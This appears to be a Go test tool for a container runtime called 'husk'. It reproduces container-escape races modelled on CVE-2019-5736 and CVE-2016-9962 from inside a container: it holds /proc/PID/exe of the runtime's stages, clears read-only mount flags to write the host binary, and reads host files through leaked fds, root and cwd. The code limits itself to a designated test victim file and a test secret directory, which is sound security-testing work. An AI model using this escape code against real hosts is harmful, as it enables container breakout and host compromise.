package main

// Attacks on husk's init and exec stages from inside a container: the
// window in which a stage is in the container's namespaces, already holds
// the container's capabilities (so a process in the container may look at
// it through /proc) and has not yet exec'd the user's program.
//
// CVE-2019-5736: /proc/PID/exe of the stage is husk's binary on the host.
// CVE-2016-9962: /proc/PID/fd/N of the stage is whatever husk still holds,
// including fds its caller leaked to it.

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
	"unicode/utf8"

	"golang.org/x/sys/unix"
)

func init() {
	commands["stagerace"] = command{
		"[-exe] [-fds] [-secs S] [-grace S]",
		"race for /proc/PID/exe (-exe) and /proc/PID/fd/* (-fds) of husk's stages; see attack_stage.go",
		0, cmdStageRace,
	}
}

// raceState is what the racing threads share.
type raceState struct {
	mu     sync.Mutex
	self   int
	exe    bool
	fds    bool
	cands  map[int]bool // pids to watch
	done   map[int]bool // pids that exec'd the user's program or went away
	stages map[int]bool // pids seen before their final execve
	denied int          // /proc/PID/exe refused: a stage still privileged, or non-dumpable
	// exe attack
	held    map[int]*heldExe // O_PATH fd -> the stage binary it holds
	heldPid map[int]bool
	setattr int // mount_setattr(!RDONLY) that succeeded
	wrote   int // writes to the victim
	// victim is the only file written to (with the bytes read from it):
	// the test's copy of the runtime. Any other file held is only opened
	// for writing, which changes nothing, not even its times.
	victim   [2]uint64
	writable int // other files opened for writing
	hostPath string
	// fd attack
	fdProbes   int             // successful listings of a stage's fds
	leaks      int             // outside files read through a stage's fd
	fdWritable int             // outside files opened for writing through a stage's fd
	printed    map[string]bool // LEAK lines already printed
}

type heldExe struct {
	pid     int
	target  string
	how     string // what was made writable: "mount", "clone" (open_tree of it), or "" (nothing)
	lastErr string
	done    bool
}

func (s *raceState) printf(format string, a ...any) {
	// One line, one write: the output file is shared with other writers.
	os.Stdout.WriteString(fmt.Sprintf(format, a...))
}

// cmdStageRace watches its pid namespace for processes that are not (yet)
// running a program of the container: husk's stages. A stage is found
// through the namespace's last allocated pid, and probed in a tight loop
// until it has exec'd, since the window after it dropped to the
// container's capabilities is short.
//
// -exe: open /proc/PID/exe with O_PATH (and the other files that
// /proc/PID/map_files gives); for a file the container can't reach by
// path, clear MOUNT_ATTR_RDONLY on its mount with mount_setattr (allowed
// with CAP_SYS_ADMIN for a detached mount), keep the handle, and once
// nothing executes the file any more (no ETXTBSY) reopen it for writing
// through /proc/self/fd. Only the file named by -victim (the test's copy
// of the runtime) is written to, with the 16 bytes found at its offset 0:
// a proof that leaves the content as it was. Any other file is only opened
// for writing, which changes nothing, not even its times. Lines: "SAW pid
// target", "SETATTR pid ok|err", "WROTE pid target" (the victim),
// "WRITABLE pid target" (another file), "NOWRITE pid target: error".
//
// -fds: open every /proc/PID/fd/N (N > 2: 0-2 are the caller's stdio,
// passed on by design) of the stage that refers to a file the container
// can't reach by path, and print what it reads through it: "LEAK pid fd=N
// target ..." with the names in a directory (and its parent), and the
// content of the files in the test's secret directory (-hostpath DIR; no
// other host file is read); "LEAK-WRITABLE pid fd=N target" when such a file
// could also be opened for writing (nothing is written). It also looks
// through the stage's /proc/PID/root and /proc/PID/cwd, and for DIR below
// them: "LEAK pid root|cwd target ...".
//
// The last line is "done pids=N stages=S denied=D held=H setattr=A
// wrote=W fdprobes=F leaks=L writable=X": wrote counts WROTE and WRITABLE
// lines, writable LEAK-WRITABLE ones; stages counts processes caught
// before their final execve, so a test can tell that the race was run at
// all.
func cmdStageRace(args []string) error {
	fs := flag.NewFlagSet("stagerace", flag.ContinueOnError)
	exe := fs.Bool("exe", false, "attack /proc/PID/exe")
	fds := fs.Bool("fds", false, "attack /proc/PID/fd/*")
	secs := fs.Float64("secs", 3, "how long to watch for stages")
	grace := fs.Float64("grace", 2, "how long to keep trying to write to held binaries after that")
	stopOnWrite := fs.Bool("stop-on-write", true, "end once a binary was written to")
	victim := fs.String("victim", "", "DEV:INO (decimal, as fstat reports them) of the only file the attacker may write to")
	hostPath := fs.String("hostpath", "", "a host directory to look for through a stage's root and cwd")
	if err := fs.Parse(args); err != nil {
		return err
	}
	s := &raceState{
		self: os.Getpid(), exe: *exe, fds: *fds,
		cands: map[int]bool{}, done: map[int]bool{}, stages: map[int]bool{},
		held: map[int]*heldExe{}, heldPid: map[int]bool{}, printed: map[string]bool{},
		hostPath: *hostPath,
	}
	if *victim != "" {
		if _, err := fmt.Sscanf(*victim, "%d:%d", &s.victim[0], &s.victim[1]); err != nil {
			return fmt.Errorf("-victim %q: %w", *victim, err)
		}
	}
	// Processes already there (the init of a created container, waiting
	// for start) are stages too.
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != s.self {
			s.cands[pid] = true
		}
	}
	lastPid := openLastPid()
	watchEnd := time.Now().Add(time.Duration(*secs * float64(time.Second)))
	end := watchEnd.Add(time.Duration(*grace * float64(time.Second)))
	s.printf("ready pid=%d\n", s.self)

	var wg sync.WaitGroup
	workers := runtime.NumCPU()
	if workers > 2 {
		workers = 2
	}
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			runtime.LockOSThread()
			s.watch(lastPid, watchEnd)
		}()
	}
	if s.exe {
		wg.Add(1)
		go func() {
			defer wg.Done()
			s.writeHeld(watchEnd, end, *stopOnWrite)
		}()
	}
	wg.Wait()
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, h := range s.held {
		if !h.done {
			s.printf("NOWRITE %d %s (%s): %s\n", h.pid, h.target, h.how, h.lastErr)
		}
	}
	s.printf("done pids=%d stages=%d denied=%d held=%d setattr=%d wrote=%d fdprobes=%d leaks=%d writable=%d\n",
		len(s.cands), len(s.stages), s.denied, len(s.held), s.setattr, s.wrote+s.writable, s.fdProbes, s.leaks, s.fdWritable)
	return nil
}

// openLastPid opens the pid namespace's last allocated pid, read with pread
// on every round: much cheaper than listing /proc.
func openLastPid() int {
	fd, err := unix.Open("/proc/sys/kernel/ns_last_pid", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return -1
	}
	return fd
}

func readLastPid(fd int) int {
	if fd < 0 {
		return -1
	}
	var buf [32]byte
	n, err := unix.Pread(fd, buf[:], 0)
	if err != nil || n == 0 {
		return -1
	}
	v, err := strconv.Atoi(strings.TrimSpace(string(buf[:n])))
	if err != nil {
		return -1
	}
	return v
}

func (s *raceState) watch(lastFd int, end time.Time) {
	next := 0
	var cands []int
	for time.Now().Before(end) {
		s.mu.Lock()
		if last := readLastPid(lastFd); last > 0 {
			if next == 0 {
				next = last + 1
			}
			for ; next <= last; next++ {
				if next != s.self {
					s.cands[next] = true
				}
			}
		} else if next == 0 || time.Now().UnixNano()%50 == 0 {
			// No ns_last_pid: list /proc now and then.
			next = 1
			s.mu.Unlock()
			ents, _ := os.ReadDir("/proc")
			s.mu.Lock()
			for _, e := range ents {
				if pid, err := strconv.Atoi(e.Name()); err == nil && pid != s.self {
					s.cands[pid] = true
				}
			}
		}
		cands = cands[:0]
		for pid := range s.cands {
			if !s.done[pid] {
				cands = append(cands, pid)
			}
		}
		s.mu.Unlock()
		hot := false
		for _, pid := range cands {
			if s.probe(pid) {
				hot = true
			}
		}
		if !hot {
			// Nothing in flight: don't starve the runtime we race.
			time.Sleep(200 * time.Microsecond)
		}
	}
}

// probe looks at one pid; it tells whether the pid is a stage still in
// flight (worth probing again at once).
func (s *raceState) probe(pid int) bool {
	exe := "/proc/" + strconv.Itoa(pid) + "/exe"
	fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		if errors.Is(err, unix.EACCES) || errors.Is(err, unix.EPERM) {
			// Privileged (or non-dumpable) and not exec'd yet: a stage.
			s.mu.Lock()
			s.denied++
			s.stages[pid] = true
			s.mu.Unlock()
			return true
		}
		// Gone, a zombie, or a kernel thread.
		var st unix.Stat_t
		if unix.Stat("/proc/"+strconv.Itoa(pid), &st) != nil {
			s.mu.Lock()
			s.done[pid] = true
			s.mu.Unlock()
		}
		return false
	}
	target, _ := os.Readlink(exe)
	if reach(fd, target) == "inside" {
		// Running a program of the container: done with this pid.
		unix.Close(fd)
		s.mu.Lock()
		s.done[pid] = true
		s.mu.Unlock()
		return false
	}
	s.mu.Lock()
	s.stages[pid] = true
	s.mu.Unlock()
	if s.fds {
		s.probeFds(pid)
		s.probeRootCwd(pid)
	}
	if !s.exe {
		unix.Close(fd)
		return true
	}
	s.mu.Lock()
	if s.heldPid[pid] || len(s.held) >= 64 {
		s.mu.Unlock()
		unix.Close(fd)
		return true
	}
	s.heldPid[pid] = true
	s.mu.Unlock()
	s.printf("SAW %d %s\n", pid, target)
	s.holdMapped(pid, fd)
	s.hold(pid, target, fd)
	return true
}

// holdMapped holds the files mapped into a stage other than the one its
// exe link gives (with CAP_SYS_ADMIN over the host, /proc/PID/map_files
// opens them): a binary exec'd through a stacking filesystem may be
// mapped from the file underneath.
func (s *raceState) holdMapped(pid, exe int) {
	var ex unix.Stat_t
	if unix.Fstat(exe, &ex) != nil {
		return
	}
	dir := "/proc/" + strconv.Itoa(pid) + "/map_files"
	d, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	names := readNames(d, 256)
	unix.Close(d)
	seen := map[[2]uint64]bool{{ex.Dev, ex.Ino}: true}
	for _, n := range names {
		p := dir + "/" + n
		f, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		target, _ := os.Readlink(p)
		if unix.Fstat(f, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFREG || seen[[2]uint64{st.Dev, st.Ino}] || reach(f, target) == "inside" {
			unix.Close(f)
			continue
		}
		seen[[2]uint64{st.Dev, st.Ino}] = true
		s.printf("SAW %d map_files/%s %s\n", pid, n, target)
		s.hold(pid, "map_files/"+n+" "+target, f)
	}
}

// clearReadonly clears MOUNT_ATTR_RDONLY on the mount of an O_PATH handle,
// or failing that on a private clone of that mount, which then replaces
// the handle's fd (dup3). It tells which worked.
func clearReadonly(fd int) (string, error) {
	clr := &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	err := unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, clr)
	if err == nil {
		return "mount", nil
	}
	c, cerr := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	if cerr != nil {
		return "", fmt.Errorf("mount_setattr: %v; open_tree clone: %v", err, cerr)
	}
	defer unix.Close(c)
	if cerr := unix.MountSetattr(c, "", unix.AT_EMPTY_PATH, clr); cerr != nil {
		return "", fmt.Errorf("mount_setattr: %v; on a clone: %v", err, cerr)
	}
	if cerr := unix.Dup3(c, fd, unix.O_CLOEXEC); cerr != nil {
		return "", cerr
	}
	return "clone", nil
}

// hold makes the mount behind a stage's binary writable and keeps the
// handle for writeHeld. The handle outlives the stage, and with it the
// detached mount it is on.
func (s *raceState) hold(pid int, target string, fd int) {
	how, err := clearReadonly(fd)
	s.mu.Lock()
	defer s.mu.Unlock()
	s.held[fd] = &heldExe{pid: pid, target: target, how: how}
	if err != nil {
		s.printf("SETATTR %d err: %v\n", pid, err)
		return
	}
	s.setattr++
	s.printf("SETATTR %d ok (%s)\n", pid, how)
}

// writeHeld tries the held handles until end: a binary that is being
// executed (by the stage, or by the runtime that started it) refuses
// writers with ETXTBSY, so the write can only land once they are gone.
func (s *raceState) writeHeld(watchEnd, end time.Time, stopOnWrite bool) {
	for time.Now().Before(end) {
		s.mu.Lock()
		if len(s.held) == 0 && time.Now().After(watchEnd) {
			// Nothing to write through: no grace needed.
			s.mu.Unlock()
			return
		}
		fds := make([]int, 0, len(s.held))
		for fd, h := range s.held {
			if !h.done {
				fds = append(fds, fd)
			}
		}
		s.mu.Unlock()
		for _, fd := range fds {
			s.tryWriteHeld(fd)
		}
		s.mu.Lock()
		stop := stopOnWrite && s.wrote+s.writable > 0
		s.mu.Unlock()
		if stop {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
}

func (s *raceState) tryWriteHeld(fd int) {
	s.mu.Lock()
	h := s.held[fd]
	s.mu.Unlock()
	var st unix.Stat_t
	isVictim := unix.Fstat(fd, &st) == nil && st.Dev == s.victim[0] && st.Ino == s.victim[1]
	flags := unix.O_RDWR
	if !isVictim {
		flags = unix.O_WRONLY
	}
	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), flags|unix.O_CLOEXEC, 0)
	if err != nil {
		s.mu.Lock()
		h.lastErr = "open for writing: " + err.Error()
		s.mu.Unlock()
		return
	}
	defer unix.Close(w)
	if !isVictim {
		s.mu.Lock()
		defer s.mu.Unlock()
		h.done = true
		s.writable++
		s.printf("WRITABLE %d %s (%s): opened for writing, nothing written\n", h.pid, h.target, h.how)
		return
	}
	orig := make([]byte, 16)
	n, err := unix.Pread(w, orig, 0)
	if err == nil && n > 0 {
		_, err = unix.Pwrite(w, orig[:n], 0)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if err != nil || n == 0 {
		h.lastErr = fmt.Sprintf("opened for writing, then read/write: n=%d %v", n, err)
		return
	}
	h.done = true
	s.wrote++
	s.printf("WROTE %d %s (%s)\n", h.pid, h.target, h.how)
}

// probeFds reads through every fd of a stage that leads outside the
// container.
func (s *raceState) probeFds(pid int) {
	dir := "/proc/" + strconv.Itoa(pid) + "/fd"
	d, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	names := readNames(d, 64)
	unix.Close(d)
	s.mu.Lock()
	s.fdProbes++
	s.mu.Unlock()
	for _, name := range names {
		n, err := strconv.Atoi(name)
		if err != nil || n <= 2 {
			continue
		}
		p := dir + "/" + name
		target, err := os.Readlink(p)
		if err != nil || !strings.HasPrefix(target, "/") {
			continue // pipes, sockets, anon inodes
		}
		var st unix.Stat_t
		if unix.Stat(p, &st) != nil {
			continue
		}
		typ := st.Mode & unix.S_IFMT
		if typ != unix.S_IFDIR && typ != unix.S_IFREG {
			continue // fifos (the exec fifo: opening it could start the container) and devices
		}
		f, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			s.report(pid, n, target, "open: "+err.Error())
			continue
		}
		if reach(f, target) == "inside" {
			unix.Close(f)
			continue
		}
		if typ == unix.S_IFDIR {
			s.report(pid, n, target, s.describeDir(f, target))
		} else {
			what := fmt.Sprintf("size=%d", st.Size)
			if s.hostPath != "" && strings.HasPrefix(target, s.hostPath+"/") {
				what = "content=" + readSmall(f) // the test's own secret
			}
			s.report(pid, n, target, what)
			// A reopen is checked against the file and its mount, not
			// against how the stage opened it: a read-only fd may give a
			// writable one (a host cgroup file, say). Opening is proof
			// enough; nothing is written.
			if w, err := unix.Open(p, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(w)
				s.reportWritable(pid, n, target)
			}
		}
		unix.Close(f)
	}
}

func (s *raceState) report(pid, fd int, target, what string) {
	key := fmt.Sprintf("%d %d %s", pid, fd, target)
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.printed[key] {
		return
	}
	s.printed[key] = true
	if !strings.HasPrefix(what, "open: ") {
		s.leaks++
	}
	s.printf("LEAK %d fd=%d %s %s\n", pid, fd, target, what)
}

// probeRootCwd looks through a stage's root and working directory: until
// pivot_root an init stage's root is the host's, and its cwd the bundle.
func (s *raceState) probeRootCwd(pid int) {
	var own unix.Stat_t
	if unix.Stat("/", &own) != nil {
		return
	}
	for _, which := range []string{"root", "cwd"} {
		p := "/proc/" + strconv.Itoa(pid) + "/" + which
		f, err := unix.Open(p, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		target, _ := os.Readlink(p)
		var st unix.Stat_t
		if unix.Fstat(f, &st) != nil || (which == "root" && st.Dev == own.Dev && st.Ino == own.Ino) ||
			(which == "cwd" && reach(f, target) == "inside") {
			unix.Close(f)
			continue
		}
		what := s.describeDir(f, "")
		if s.hostPath != "" {
			if d, err := unix.Openat(f, "./"+s.hostPath, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
				what += " hostpath: " + s.describeDir(d, s.hostPath)
				unix.Close(d)
			}
		}
		unix.Close(f)
		s.reportKey(which+" "+strconv.Itoa(pid), fmt.Sprintf("LEAK %d %s %s %s\n", pid, which, target, what))
	}
}

func (s *raceState) reportKey(key, line string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.printed[key] {
		return
	}
	s.printed[key] = true
	s.leaks++
	s.printf("%s", line)
}

func (s *raceState) reportWritable(pid, fd int, target string) {
	key := fmt.Sprintf("w %d %d %s", pid, fd, target)
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.printed[key] {
		return
	}
	s.printed[key] = true
	s.fdWritable++
	s.printf("LEAK-WRITABLE %d fd=%d %s\n", pid, fd, target)
}

// describeDir lists a directory reached through a stage (its names, its
// parent's names: a leaked directory is a way up to the host's root), and
// if it is the test's own secret directory, given as -hostpath, the
// content of its small files. No other host file is read.
func (s *raceState) describeDir(d int, path string) string {
	var b strings.Builder
	names := readNames(d, 20)
	b.WriteString("entries=" + strings.Join(names, ","))
	if s.hostPath != "" && path == s.hostPath {
		for _, n := range names {
			f, err := unix.Openat(d, n, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			if unix.Fstat(f, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG && st.Size <= 4096 {
				b.WriteString(" " + n + "=" + readSmall(f))
			}
			unix.Close(f)
		}
	}
	if p, err := unix.Openat(d, "..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
		b.WriteString(" parent=" + strings.Join(readNames(p, 20), ","))
		unix.Close(p)
	}
	return b.String()
}

func readNames(d, max int) []string {
	var names []string
	buf := make([]byte, 8192)
	for len(names) < max {
		n, err := unix.Getdents(d, buf)
		if err != nil || n <= 0 {
			break
		}
		_, _, names = unix.ParseDirent(buf[:n], -1, names)
	}
	sort.Strings(names)
	if len(names) > max {
		names = names[:max]
	}
	return names
}

// readSmall returns up to 128 bytes of a file, quoted, or a note that it
// isn't text (husk's own binary is one of the stage's fds).
func readSmall(f int) string {
	buf := make([]byte, 128)
	n, err := unix.Pread(f, buf, 0)
	if err != nil {
		return "read-error:" + err.Error()
	}
	if !utf8.Valid(buf[:n]) || strings.ContainsRune(string(buf[:n]), 0) {
		return fmt.Sprintf("binary(%d bytes)", n)
	}
	return strconv.Quote(string(buf[:n]))
}
